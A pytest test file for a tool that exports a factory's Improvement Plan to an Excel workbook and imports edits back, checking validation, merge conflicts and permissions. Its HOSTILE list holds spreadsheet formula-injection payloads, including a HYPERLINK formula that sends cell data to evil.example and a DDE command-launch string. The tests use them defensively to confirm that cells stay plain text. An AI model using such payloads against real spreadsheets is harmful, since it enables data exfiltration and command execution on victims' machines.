"""The Improvement Plan offline: a workbook written, edited in openpyxl or LibreOffice, and
brought back with the same field-level merge as the apps, every problem named."""

from __future__ import annotations

import base64
import datetime as dt
import io
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import update

from bwcases.apps import RemediationTracker
from bwcases.apps.common import shared_layout
from bwcases.core.errors import ImportConflictError, InputError, NotFoundError, UsageError
from bwcases.io.importers import import_file
from bwcases.io.plan_workbook import COLUMNS, import_plan_workbook
from bwcases.reports.plan_workbook import NEW_ROWS, write_plan_workbook
from bwcases.store import Store
from bwcases.store import models as m
from tests.browser import APP_TIMEOUT_MS, needs_chromium, served, sign_in
from tests.helpers import (
    PASSWORD,
    ROOT,
    bw,
    fill_advisor_case,
    open_app,
    plan_public_item,
    served_store_url,
    state,
    upload,
)
from tests.test_plan_merge import ADVISOR, EXIT, WAGES, edit_in_app, item, plan_file

if TYPE_CHECKING:
    from playwright.sync_api import Browser

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "<script>alert(1)</script> & \u202egnp.exe",
    "-2+3",
]


@pytest.fixture
def planned(store: Store, export_file: Path, tmp_path: Path) -> Store:
    """VN001 with two items: a finding (Underpaid, row 2) and a self-diagnosis (Exit blocked)."""
    import_file(store, "assessments", export_file)
    import_file(store, "improvement-plan", plan_file(tmp_path / "plan.csv", WAGES, EXIT))
    return store


def retitle(store: Store, issue: str, new: str, **changes: Any) -> None:
    """The advisor gives an item another issue text (and other changes) in the app."""
    current = item(store, issue)
    values = {"issue": new, **changes}
    store.save_plan_item(
        current["item_id"], values, expected_version=current["version"], actor=ADVISOR
    )


def written(store: Store, path: Path, lang: str = "en") -> Path:
    write_plan_workbook(store, "VN001", path, lang=lang)
    return path


def col(column: str) -> int:
    return COLUMNS.index(column) + 1


def put(ws: Worksheet, row: int, column: str, value: Any) -> None:
    ws.cell(row=row, column=col(column)).value = value


def get(ws: Worksheet, row: int, column: str) -> Any:
    return ws.cell(row=row, column=col(column)).value


def edited(path: Path, *changes: tuple[int, str, Any]) -> Path:
    """The workbook as openpyxl saves it with these (row, column, value) changes."""
    book = openpyxl.load_workbook(path)
    for row, column, value in changes:
        put(book.worksheets[0], row, column, value)
    book.save(path)
    return path


# -- the written file ---------------------------------------------------------------------------


def test_the_sheet_has_lists_real_dates_locked_ids_and_a_frozen_header(
    planned: Store, tmp_path: Path
) -> None:
    book = openpyxl.load_workbook(written(planned, tmp_path / "plan.xlsx"))
    ws = book.worksheets[0]
    assert [c.value for c in ws[1]] == list(COLUMNS)
    assert ws.freeze_panes == "A2"
    last = 3 + NEW_ROWS  # two items, then the rows for new ones
    checks = {
        (dv.type, str(dv.formula1)): str(dv.sqref) for dv in ws.data_validations.dataValidation
    }
    assert checks == {
        ("list", '"Pending,In Progress,Completed"'): f"N2:N{last}",
        ("list", '"High,Medium,Low"'): f"M2:M{last}",
        ("list", '"yes,no"'): f"O2:O{last}",
        ("date", "DATE(2000,1,1)"): f"L2:L{last}",
    }
    # sheet protection without a password: she can lift it in Excel and LibreOffice alike
    assert ws.protection.sheet and not ws.protection.password
    locked = {c: ws.cell(row=2, column=col(c)).protection.locked for c in COLUMNS}
    assert [c for c, on in locked.items() if on] == [
        "Item.ID",
        "Version",
        "Factory.ID",
        "Quest.ID",
        "Question.ID",
        "CAT.Question",
    ]
    # a new row names its factory and finding itself, but never an ID or a version
    new = {c: ws.cell(row=4, column=col(c)).protection.locked for c in COLUMNS}
    assert [c for c, on in new.items() if on] == ["Item.ID", "Version", "CAT.Question"]
    wages = {c: get(ws, 2, c) for c in COLUMNS}
    assert wages["Item.ID"] == item(planned, "Underpaid")["item_id"]
    assert (wages["Version"], wages["Due.Date"]) == (1, dt.datetime(2023, 6, 1))
    assert ws.cell(row=2, column=col("Due.Date")).number_format == "DD/MM/YYYY"
    assert ws.cell(row=9, column=col("Due.Date")).number_format == "DD/MM/YYYY"
    # the CAT question beside the issue, as context
    assert wages["CAT.Question"] == "Are workers paid the minimum wage?"
    assert get(ws, 3, "CAT.Question") is None  # a self-diagnosis item has none
    assert ws.column_dimensions["H"].width == 40  # Issue
    assert book.sheetnames == ["Plan", "Instructions"]
    notes = [c.value for c in book["Instructions"]["A"] if c.value]
    assert notes[0] == "Improvement Plan of Saigon Garments (VN001)"
    assert any("bwcases import improvement-plan FILE.xlsx" in line for line in notes)


@pytest.mark.parametrize(
    ("lang", "sheets", "title", "rtl"),
    [
        ("vi", ["Kế hoạch", "Hướng dẫn"], "Kế hoạch cải thiện của Saigon Garments (VN001)", False),
        ("ar", ["الخطة", "التعليمات"], "خطة التحسين لدى", True),
    ],
)
def test_the_workbook_speaks_her_language(
    planned: Store, tmp_path: Path, lang: str, sheets: list[str], title: str, rtl: bool
) -> None:
    book = openpyxl.load_workbook(written(planned, tmp_path / "plan.xlsx", lang=lang))
    assert book.sheetnames == sheets
    notes = [c.value for c in book.worksheets[1]["A"] if c.value]
    assert notes[0].startswith(title)
    assert all(bool(ws.sheet_view.rightToLeft) is rtl for ws in book.worksheets)
    # the columns keep the names the import reads, the lists the values it knows
    assert [c.value for c in book.worksheets[0][1]] == list(COLUMNS)
    check = book.worksheets[0].data_validations.dataValidation[0]
    assert check.prompt and check.prompt != "Choose a status from the list."
    assert import_file(planned, "improvement-plan", tmp_path / "plan.xlsx").endswith(
        "0 added, 0 updated"
    )


def test_the_export_command_writes_the_workbook_and_names_a_wrong_factory(
    planned: Store, store_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "plan.xlsx"
    done = bw("--db", store_url, "export", "improvement-plan", "--factory", "VN001", "-o", str(out))
    assert done.exit_code == 0, done.stderr
    assert done.stderr == f"2 items of VN001 written to {out}\n"
    assert import_file(planned, "improvement-plan", out).endswith("0 added, 0 updated")
    wrong = bw("--db", store_url, "export", "improvement-plan", "--factory", "XX9", "-o", str(out))
    assert (wrong.exit_code, wrong.stderr) == (2, "bwcases: no factory 'XX9' in the store\n")
    blind = bw("--db", store_url, "export", "improvement-plan", "-o", str(out))
    assert blind.exit_code == 2
    assert "needs --factory ID and -o FILE.xlsx" in blind.stderr
    assert not (tmp_path / "plan.xlsx.part").exists()


def test_an_unknown_factory_writes_no_file(planned: Store, tmp_path: Path) -> None:
    with pytest.raises(NotFoundError):
        write_plan_workbook(planned, "XX9", tmp_path / "plan.xlsx")
    assert not (tmp_path / "plan.xlsx").exists()


# -- brought back after openpyxl edited it ------------------------------------------------------


def test_an_unchanged_workbook_imports_as_no_change(planned: Store, tmp_path: Path) -> None:
    path = written(planned, tmp_path / "plan.xlsx")
    before = state(planned)
    summary = import_file(planned, "improvement-plan", path)
    assert summary == "plan.xlsx: 2 rows read, 0 added, 0 updated"
    assert state(planned)[0] == before[0]  # not one audited write


def test_a_status_a_date_and_a_new_row_are_written(planned: Store, tmp_path: Path) -> None:
    path = edited(
        written(planned, tmp_path / "plan.xlsx"),
        (2, "Status", "In Progress"),
        (3, "Due.Date", dt.date(2024, 2, 29)),
        (4, "Compliance.point", "Fire Safety"),
        (4, "Issue", "No fire drills"),
        (4, "Due.Date", "31/12/2024"),  # typed as text: read as the programme writes dates
        (4, "Priority", "High"),
    )
    summary = import_file(planned, "improvement-plan", path, actor="Ms Hoa")
    assert summary == "plan.xlsx: 3 rows read, 1 added, 2 updated"
    wages, exit_ = item(planned, "Underpaid"), item(planned, "Exit blocked")
    assert (wages["status"], wages["version"], wages["updated_by"]) == ("In Progress", 2, "Ms Hoa")
    assert exit_["due_date"] == dt.date(2024, 2, 29)
    drills = item(planned, "No fire drills")
    assert (drills["factory_id"], drills["source"], drills["quest_id"]) == (
        "VN001",
        "self-diagnosis",
        None,
    )
    assert (drills["due_date"], drills["priority"], drills["status"]) == (
        dt.date(2024, 12, 31),
        "High",
        "Pending",
    )
    updates = planned.progress_updates_frame()
    assert updates[["old_status", "new_status", "note"]].values.tolist() == [
        ["Pending", "In Progress", "imported from plan.xlsx"]
    ]
    # brought back twice by mistake: the new row is the item it made, nothing is added
    again = import_file(planned, "improvement-plan", path, actor="Ms Hoa")
    assert again == "plan.xlsx: 3 rows read, 0 added, 0 updated"
    assert len(planned.plan_items_frame()) == 3


def test_every_problem_is_named_by_row_column_and_value_and_nothing_is_written(
    planned: Store, tmp_path: Path
) -> None:
    wages = item(planned, "Underpaid")["item_id"]
    path = edited(
        written(planned, tmp_path / "plan.xlsx"),
        (2, "Status", "Done"),
        (2, "Action", "Pay the minimum by June"),  # a good change, not written either
        (3, "Priority", "Urgent"),
        (3, "Due.Date", "31/02/2024"),
        (4, "Issue", "A new item without its compliance point"),
        (5, "Compliance.point", "Fire Safety"),
        (5, "Item.ID", wages),  # a copy of row 2's ID
        (5, "Version", 1),
        (5, "Status", "Pending"),
        (5, "Priority", "Low"),
    )
    before = state(planned)
    with pytest.raises(InputError) as err:
        import_file(planned, "improvement-plan", path)
    assert str(err.value).splitlines() == [
        "plan.xlsx row 2, column Status: 'Done' is not Pending, In Progress or Completed "
        "(choose it from the cell's list)",
        "plan.xlsx row 3, column Due.Date: '31/02/2024' is not a date that exists (dd/mm/yyyy)",
        "plan.xlsx row 3, column Priority: 'Urgent' is not High, Medium or Low (choose it from "
        "the cell's list)",
        "plan.xlsx row 4, column Compliance.point: is empty; a value is needed",
        f"plan.xlsx row 5, column Item.ID: '{wages}' is the item of row 2 too: give each item "
        "one row",
        "Nothing was written.",
    ]
    assert state(planned)[0] == before[0]
    assert item(planned, "Underpaid")["action"] == "Pay the minimum"


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ((2, "Item.ID", 999), "Item.ID: '999' is not an item in the store"),
        ((2, "Version", 7), "Version: '7' is later than the item's version in the store"),
        ((2, "Version", None), "Version: is empty; a row with an Item.ID needs the version"),
        ((4, "Version", 1), "Version: '1' is given but Item.ID is empty"),
        ((4, "Factory.ID", "XX9"), "Factory.ID: 'XX9' is not a factory in the store"),
    ],
)
def test_a_row_that_names_no_item_it_could_be_is_refused(
    planned: Store, tmp_path: Path, change: tuple[int, str, Any], reason: str
) -> None:
    changes = [change]
    if change[0] == 4:  # a new row, else it would be empty
        changes.append((4, "Compliance.point", "Fire Safety"))
    path = edited(written(planned, tmp_path / "plan.xlsx"), *changes)
    with pytest.raises(InputError) as err:
        import_file(planned, "improvement-plan", path)
    assert f"plan.xlsx row {change[0]}, column {reason}" in str(err.value)


def test_a_workbook_brought_back_to_one_factory_keeps_to_it(planned: Store, tmp_path: Path) -> None:
    path = edited(
        written(planned, tmp_path / "plan.xlsx"),
        (4, "Compliance.point", "Hazardous Work"),
        (4, "Factory.ID", "KH001"),
    )
    with pytest.raises(InputError, match="row 4, column Factory.ID: 'KH001' is not VN001"):
        import_plan_workbook(planned, path, "Ms Hoa", factory_id="VN001")
    assert len(planned.plan_items_frame()) == 2


def test_a_stale_version_keeps_the_apps_change_beside_hers(planned: Store, tmp_path: Path) -> None:
    path = written(planned, tmp_path / "plan.xlsx")  # she takes the file at version 1
    edit_in_app(planned, "Underpaid", action="Pay arrears first", due_date=dt.date(2023, 7, 1))
    edited(path, (2, "Responsible", "Finance manager"))
    assert import_file(planned, "improvement-plan", path).endswith("0 added, 1 updated")
    wages = item(planned, "Underpaid")
    assert (wages["action"], wages["due_date"], wages["responsible"]) == (
        "Pay arrears first",
        dt.date(2023, 7, 1),
        "Finance manager",
    )


def test_a_field_both_changed_is_a_conflict_unless_hers_may_win(
    planned: Store, tmp_path: Path
) -> None:
    path = written(planned, tmp_path / "plan.xlsx")
    wages = item(planned, "Underpaid")["item_id"]
    edit_in_app(planned, "Underpaid", action="Pay arrears first")
    edited(path, (2, "Action", "Pay the minimum by June"), (3, "Notes", "drill done"))
    before = state(planned)
    with pytest.raises(ImportConflictError) as err:
        import_file(planned, "improvement-plan", path)
    assert str(err.value).splitlines()[0] == (
        f"plan.xlsx row 2 (item {wages} (VN001 / Minimum Wages/Piece Rate Wages)), column "
        "Action: the file says 'Pay the minimum by June', the store says 'Pay arrears first' "
        f"(changed by {ADVISOR} since the last import)"
    )
    assert state(planned)[0] == before[0]  # row 3's notes neither
    summary = import_file(planned, "improvement-plan", path, overwrite=True)
    assert summary.endswith("0 added, 2 updated")
    assert item(planned, "Underpaid")["action"] == "Pay the minimum by June"
    assert item(planned, "Exit blocked")["notes"] == "drill done"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text_in_the_cell_and_comes_back_unchanged(
    planned: Store, tmp_path: Path, text: str
) -> None:
    retitle(planned, "Exit blocked", text)
    path = written(planned, tmp_path / "plan.xlsx")
    ws = openpyxl.load_workbook(path).worksheets[0]
    cell = ws.cell(row=3, column=col("Issue"))
    assert (cell.value, cell.data_type) == (text, "s")  # never a formula
    assert import_file(planned, "improvement-plan", path).endswith("0 added, 0 updated")


def test_a_control_character_in_a_name_or_question_is_left_out_not_a_failure(
    planned: Store, tmp_path: Path
) -> None:
    # exports carry stray vertical tabs and the like, which no cell of a workbook may hold
    with planned.engine.begin() as conn:
        conn.execute(update(m.Factory).values(factory_name="Saigon\x0bGarments"))
        conn.execute(update(m.Question).values(question_label="Wages\x0b paid?"))
    book = openpyxl.load_workbook(written(planned, tmp_path / "plan.xlsx"))
    assert "SaigonGarments (VN001)" in str(book.worksheets[1]["A1"].value)
    assert book.worksheets[0].cell(row=2, column=col("CAT.Question")).value == "Wages paid?"


# -- brought back after LibreOffice saved it ------------------------------------------------------


@pytest.fixture(scope="session")
def soffice(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """LibreOffice's command, headless, with a profile of its own; installed when missing."""
    if shutil.which("soffice") is None:
        subprocess.run(
            [ROOT / "scripts" / "system-packages.sh", "libreoffice-calc-nogui"], check=False
        )
    if shutil.which("soffice") is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice (Debian's libreoffice-calc-nogui) could not be installed")
        pytest.skip("no LibreOffice: install Debian's libreoffice-calc-nogui (./test.sh does)")
    profile = tmp_path_factory.mktemp("libreoffice-profile")
    return ["soffice", "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}"]


def converted(soffice: list[str], path: Path, to: str) -> Path:
    """The file LibreOffice writes when it opens `path` and saves it as `to` (ods, xlsx)."""
    out = path.parent / f"by-libreoffice-{to}"
    out.mkdir(exist_ok=True)
    command = [*soffice, "--convert-to", to, "--outdir", str(out), str(path)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    result = out / f"{path.stem}.{to}"
    assert result.is_file(), done.stdout + done.stderr
    return result


def test_a_workbook_libreoffice_saved_again_imports_as_no_change(
    planned: Store, tmp_path: Path, soffice: list[str]
) -> None:
    retitle(planned, "Exit blocked", HOSTILE[0], due_date=dt.date(2024, 2, 29))
    ods = converted(soffice, written(planned, tmp_path / "plan.xlsx"), "ods")
    path = converted(soffice, ods, "xlsx")
    book = openpyxl.load_workbook(path)
    ws = book.worksheets[0]
    # what LibreOffice kept: the lists, the locks, the dates as dates, the text as text
    kinds = sorted(str(dv.formula1) for dv in ws.data_validations.dataValidation)
    assert kinds == [
        '"High,Medium,Low"',
        '"Pending,In Progress,Completed"',
        '"yes,no"',
        "DATE(2000,1,1)",
    ]
    assert ws.protection.sheet
    assert ws.cell(row=2, column=col("Item.ID")).protection.locked
    assert not ws.cell(row=2, column=col("Action")).protection.locked
    assert get(ws, 3, "Due.Date") == dt.datetime(2024, 2, 29)
    assert (get(ws, 3, "Issue"), ws.cell(row=3, column=col("Issue")).data_type) == (
        HOSTILE[0],
        "s",
    )
    before = state(planned)
    summary = import_file(planned, "improvement-plan", path)
    assert summary == "plan.xlsx: 2 rows read, 0 added, 0 updated"
    assert state(planned)[0] == before[0]


def test_changes_libreoffice_carried_are_written(
    planned: Store, tmp_path: Path, soffice: list[str]
) -> None:
    path = edited(
        written(planned, tmp_path / "plan.xlsx", lang="vi"),
        (2, "Status", "Completed"),
        (2, "PICC.Agreed", "yes"),
        (3, "Due.Date", dt.date(2025, 1, 15)),
        (5, "Compliance.point", "Fire Safety"),
        (5, "Issue", "No fire drills"),
    )
    back = converted(soffice, converted(soffice, path, "ods"), "xlsx")
    summary = import_file(planned, "improvement-plan", back)
    assert summary == "plan.xlsx: 3 rows read, 1 added, 2 updated"
    wages = item(planned, "Underpaid")
    assert (wages["status"], wages["picc_agreed"], wages["verification"]) == (
        "Completed",
        True,
        "awaiting",  # a public-disclosure finding: its completion is verified
    )
    assert item(planned, "Exit blocked")["due_date"] == dt.date(2025, 1, 15)
    assert item(planned, "No fire drills")["compliance_point"] == "Fire Safety"


# -- from a factory's own person: proposals -------------------------------------------------------

HOA = "Ms Hoa"  # VN001's compliance manager, a PICC member


@pytest.fixture
def with_people(planned: Store) -> Store:
    """VN001's advisor, and its own person who proposes."""
    planned.update_factories([{"factory_id": "VN001", "advisor": ADVISOR}], actor="test")
    planned.add_user(ADVISOR, role="advisor", country="Vietnam", password_hash="x", actor="test")
    planned.add_user(
        HOA, role="factory", country="Vietnam", password_hash="x", actor="test", factory="VN001"
    )
    return planned


def test_a_factory_persons_workbook_becomes_her_proposals(
    with_people: Store, tmp_path: Path
) -> None:
    path = written(with_people, tmp_path / "plan.xlsx")
    edit_in_app(with_people, "Underpaid", notes="Union agreed")  # meanwhile, in the app
    edited(
        path,
        (2, "Action", "Pay the minimum from July"),
        (2, "Status", "In Progress"),
        (4, "Compliance.point", "Fire Safety"),
        (4, "Issue", "No fire drills"),
    )
    items = with_people.plan_items_frame()
    summary = import_file(with_people, "improvement-plan", path, actor=HOA)
    assert summary == "plan.xlsx: 3 rows read, 3 changes proposed for review"
    # nothing of hers is written until it is accepted
    after = with_people.plan_items_frame()
    assert after[["item_id", "action", "status", "notes", "version"]].equals(
        items[["item_id", "action", "status", "notes", "version"]]
    )
    proposals = with_people.proposals_frame(proposed_by=HOA).sort_values("proposal_id")
    wages = item(with_people, "Underpaid")
    made = proposals[["item_id", "kind", "base_version"]].astype(object)
    assert made.where(made.notna(), None).values.tolist() == [
        [wages["item_id"], "item", wages["version"]],
        [wages["item_id"], "progress", wages["version"]],
        [None, "item", None],
    ]
    change, progress, new = (p["values"] for _, p in proposals.iterrows())
    assert change["fields"] == {"action": "Pay the minimum from July"}  # not the notes
    assert progress["status"] == "In Progress"
    assert new["fields"]["issue"] == "No fire drills"
    # brought back twice: nothing is proposed again
    again = import_file(with_people, "improvement-plan", path, actor=HOA)
    assert again.endswith("0 changes proposed for review (3 proposed before, left out)")
    assert len(with_people.proposals_frame(proposed_by=HOA)) == 3
    # the advisor accepts her change: the item takes it, her name beside his
    first = int(proposals["proposal_id"].iloc[0])
    with_people.accept_proposal(first, reviewer=ADVISOR)
    assert item(with_people, "Underpaid")["action"] == "Pay the minimum from July"


def test_a_factory_person_cannot_complete_or_overwrite_from_a_file(
    with_people: Store, tmp_path: Path
) -> None:
    path = edited(written(with_people, tmp_path / "plan.xlsx"), (3, "Status", "Completed"))
    with pytest.raises(InputError) as err:
        import_file(with_people, "improvement-plan", path, actor=HOA)
    assert (
        str(err.value)
        .splitlines()[0]
        .startswith(
            "plan.xlsx row 3, column Status: 'Completed' cannot move from Pending to Completed"
        )
    )
    with pytest.raises(UsageError, match="--overwrite is not for Ms Hoa"):
        import_file(with_people, "improvement-plan", path, actor=HOA, overwrite=True)
    assert with_people.proposals_frame().empty


def test_a_factory_person_brings_back_her_own_factorys_workbook_only(
    with_people: Store, tmp_path: Path
) -> None:
    write_plan_workbook(with_people, "KH001", tmp_path / "kh.xlsx")
    path = edited(
        tmp_path / "kh.xlsx", (2, "Compliance.point", "Hazardous Work"), (2, "Factory.ID", "KH001")
    )
    with pytest.raises(InputError, match="row 2, column Factory.ID: 'KH001' is not VN001"):
        import_file(with_people, "improvement-plan", path, actor=HOA)
    # nor a plan file of the data team's, which would write
    csv = plan_file(tmp_path / "plan.csv", WAGES | {"Action": "Pay later"})
    with pytest.raises(InputError, match="column Item.ID: the column is missing"):
        import_file(with_people, "improvement-plan", csv, actor=HOA)
    assert with_people.proposals_frame().empty


def test_the_import_command_imports_as_a_named_person(
    with_people: Store, store_url: str, tmp_path: Path
) -> None:
    path = edited(written(with_people, tmp_path / "plan.xlsx"), (2, "Responsible", "Payroll"))
    command = ["--db", store_url, "import", "improvement-plan", str(path)]
    done = bw(*command, "--as", HOA)
    assert done.exit_code == 0, done.stderr
    assert done.stdout == "plan.xlsx: 2 rows read, 1 changes proposed for review\n"
    unknown = bw(*command, "--as", "Nobody")
    assert (unknown.exit_code, unknown.stderr) == (
        2,
        "bwcases: no person 'Nobody': add her with bwcases users add\n",
    )
    with_people.add_user("Hoa Le", role="readonly", country=None, password_hash="x", actor="test")
    reader = bw(*command, "--as", "Hoa Le")
    assert reader.exit_code == 2 and "'Hoa Le': she may not change plans" in reader.stderr
    assert item(with_people, "Underpaid")["updated_by"] != "Hoa Le"
    advisor = bw(*command, "--as", ADVISOR)
    assert advisor.stdout == "plan.xlsx: 2 rows read, 0 added, 1 updated\n"
    assert item(with_people, "Underpaid")["updated_by"] == ADVISOR


# -- in the tracker: saved for the open factory, brought back by an upload ------------------------


def saved(app: RemediationTracker) -> tuple[str, bytes]:
    """The name and bytes of the workbook the tracker's link saves."""
    app.offline.save.click()
    link = app.offline.link.value
    found = re.search(r'download="([^"]+)" href="data:[^;]+;base64,([^"]+)"', link)
    assert found, link
    return found.group(1), base64.b64decode(found.group(2))


def brought_back(app: RemediationTracker, name: str, content: bytes) -> str:
    """What the tracker says of a workbook brought back."""
    app.offline.upload.value = (upload(name, content),)
    return str(app.offline.message.value)


def changed_bytes(content: bytes, *changes: tuple[int, str, Any]) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(content))
    for row, column, value in changes:
        put(book.worksheets[0], row, column, value)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_the_tracker_saves_the_open_factorys_plan_and_takes_it_back(apps_store: Store) -> None:
    item_id = plan_public_item(apps_store)
    app = open_app(RemediationTracker, apps_store, "Lan Nguyen", "VN003", lang="vi")
    name, content = saved(app)
    assert name == f"plan-VN003-{dt.date.today().isoformat()}.xlsx"
    ws = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert (get(ws, 2, "Item.ID"), get(ws, 2, "Issue")) == (
        item_id,
        "Deductions not itemised on payslips",
    )
    assert get(ws, 3, "Item.ID") is None  # her plan has one item
    edited_file = changed_bytes(
        content,
        (2, "Responsible", "Payroll manager"),
        (3, "Compliance.point", "Chemicals and Hazardous Substances"),
        (3, "Issue", "Unlabelled drums"),
    )
    said = brought_back(app, "plan.xlsx", edited_file)
    assert "plan.xlsx: 2 rows read, 1 added, 1 updated" in said and "bw-success" in said
    assert apps_store.plan_item(item_id)["responsible"] == "Payroll manager"
    assert "Unlabelled drums" in app.plan.value  # the plan drawn again


def test_the_tracker_names_each_problem_of_a_workbook_escaped(apps_store: Store) -> None:
    plan_public_item(apps_store)
    app = open_app(RemediationTracker, apps_store, "Lan Nguyen", "VN003")
    _name, content = saved(app)
    bad = changed_bytes(content, (2, "Status", "<b>Done</b>"), (3, "Compliance.point", "x"))
    said = brought_back(app, "plan.xlsx", changed_bytes(bad, (3, "Due.Date", "soon")))
    assert "plan.xlsx row 2, column Status: &#39;&lt;b&gt;Done&lt;/b&gt;&#39; is not" in said
    assert "<br>plan.xlsx row 3, column Due.Date: &#39;soon&#39; is not a date" in said
    assert "<b>" not in said and "bw-error" in said
    assert len(apps_store.plan_items_frame(factory_ids=["VN003"])) == 1


def test_the_tracker_names_a_conflict_and_what_she_can_do(apps_store: Store) -> None:
    item_id = plan_public_item(apps_store)
    app = open_app(RemediationTracker, apps_store, "Lan Nguyen", "VN003")
    _name, content = saved(app)
    current = apps_store.plan_item(item_id)
    apps_store.save_plan_item(
        item_id, {"action": "Reprint"}, expected_version=current["version"], actor="Minh Tran"
    )
    said = brought_back(app, "plan.xlsx", changed_bytes(content, (2, "Action", "Redo payslips")))
    assert "column Action: the file says &#39;Redo payslips&#39;, the store says" in said
    assert "take the app&#39;s values into the workbook and bring it back" in said
    assert "--overwrite" not in said
    assert apps_store.plan_item(item_id)["action"] == "Reprint"


def test_in_the_tracker_a_factory_persons_workbook_is_proposed(apps_store: Store) -> None:
    item_id = plan_public_item(apps_store)
    apps_store.add_user(
        HOA, role="factory", country="Vietnam", password_hash="x", actor="test", factory="VN003"
    )
    hoa = open_app(RemediationTracker, apps_store, HOA, "VN003")
    _name, content = saved(hoa)
    said = brought_back(hoa, "plan.xlsx", changed_bytes(content, (2, "Notes", "Payslips redone")))
    assert "plan.xlsx: 1 rows read, 1 changes proposed for review" in said
    assert apps_store.plan_item(item_id)["notes"] == ""
    [proposal] = apps_store.proposals_frame(proposed_by=HOA)["values"]
    assert proposal["fields"] == {"notes": "Payslips redone"}


def test_who_only_reads_saves_the_plan_but_brings_none_back(apps_store: Store) -> None:
    plan_public_item(apps_store)
    hoa_le = open_app(RemediationTracker, apps_store, "Hoa Le", "VN003")
    assert saved(hoa_le)[0].endswith(".xlsx")
    assert hoa_le.offline.upload.layout.display == "none"
    lan = open_app(RemediationTracker, apps_store, "Lan Nguyen", "VN003")
    assert lan.offline.upload.layout.display is None


def test_a_workbook_sent_past_the_hidden_upload_changes_nothing(apps_store: Store) -> None:
    item_id = plan_public_item(apps_store)
    hoa_le = open_app(RemediationTracker, apps_store, "Hoa Le", "VN003")  # she only reads
    _name, content = saved(hoa_le)
    # a page's hidden widget still takes a value sent to it: the server decides who writes
    brought_back(hoa_le, "plan.xlsx", changed_bytes(content, (2, "Notes", "Not hers to say")))
    assert apps_store.plan_item(item_id)["notes"] == ""
    assert apps_store.proposals_frame(proposed_by="Hoa Le").empty


def test_without_a_factory_the_panel_hides_itself_and_nothing_else(
    apps_store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    app = open_app(RemediationTracker, apps_store, "Lan Nguyen")
    app.picker.factory.value = "VN003"
    app.picker.factory.value = ""  # she leaves the factory: "Choose a factory…"
    assert app.offline.layout.display == "none"
    # the layout many widgets share is not the panel's to hide
    assert shared_layout().display is None and shared_layout("auto").display is None
    assert app.plan.layout.display is None
    # leaving a factory is no failure, not even one the server's log alone would show
    assert [r.getMessage() for r in caplog.records if r.levelname == "ERROR"] == []


@pytest.mark.browser
@pytest.mark.slow
@needs_chromium
def test_in_chromium_the_plan_is_saved_edited_and_brought_back(
    browser: Browser, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    store = fill_advisor_case(Store(served_store_url("sqlite", tmp_path, "")), tmp_path)
    item_id = plan_public_item(store)
    with served(store.url, tmp_path / "voila.log") as base:
        context = browser.new_context(
            viewport={"width": 1280, "height": 900}, accept_downloads=True
        )
        page = context.new_page()
        page.set_default_timeout(30_000)
        page.set_default_navigation_timeout(APP_TIMEOUT_MS)
        sign_in(page, base, "Lan Nguyen", PASSWORD)
        page.goto(f"{base}voila/render/remediation_tracker.ipynb?factory=VN003")
        page.locator(".bw-tracker-plan").wait_for(timeout=APP_TIMEOUT_MS)
        page.get_by_role("button", name="Save the plan as a workbook").click()
        link = page.locator("a.bw-download", has_text="plan-VN003-")
        with page.expect_download() as download:
            link.click()
        saved_file = tmp_path / download.value.suggested_filename
        download.value.save_as(saved_file)
        edited(saved_file, (2, "Responsible", "Payroll manager"))
        with page.expect_file_chooser() as chooser:
            page.locator(".widget-upload", has_text="Bring back a workbook").click()
        chooser.value.set_files(str(saved_file))
        said = page.locator(".bw-notice.bw-success", has_text="1 updated")
        said.wait_for()
        shot = tmp_path_factory.getbasetemp() / "tracker_plan_workbook.png"
        page.screenshot(path=str(shot), full_page=True)
        print(f"screenshot: {shot}")
        context.close()
    assert store.plan_item(item_id)["responsible"] == "Payroll manager"
    store.dispose()
